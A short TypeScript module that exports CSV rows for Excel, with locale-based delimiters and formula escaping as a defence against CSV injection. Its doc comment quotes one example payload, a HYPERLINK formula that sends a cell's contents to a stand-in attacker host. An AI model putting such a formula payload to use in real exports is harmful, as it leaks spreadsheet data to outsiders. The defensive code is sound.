import { stringify } from "csv-stringify/sync";
import type { TLocale } from "@/lib/i18n/routing";

/** Excel reads the list separator of the user's region: a semicolon where the decimal mark is a comma. */
const CSV_DELIMITER: Record<TLocale, string> = { da: ";", de: ";", en: "," };

/**
 * Rows as CSV for a spreadsheet: UTF-8 with a byte order mark, so Excel shows æ, ø and å as they are.
 * Every CSV Ankomst writes goes through here. A text cell that a spreadsheet would run as a formula
 * (beginning with =, +, -, @, a tab or a carriage return, or their full-width forms) gets a leading
 * apostrophe, as OWASP's CSV injection guidance asks: a staff member named
 * `=HYPERLINK("http://evil.example/?leak="&A2)` reads as that text, not as a link that leaks the row.
 * Numbers stay numbers, negative ones included.
 */
export function spreadsheetCsv(rows: readonly (readonly (string | number)[])[], locale: TLocale): string {
  return stringify(rows as (string | number)[][], { bom: true, delimiter: CSV_DELIMITER[locale], record_delimiter: "windows", escape_formulas: true });
}
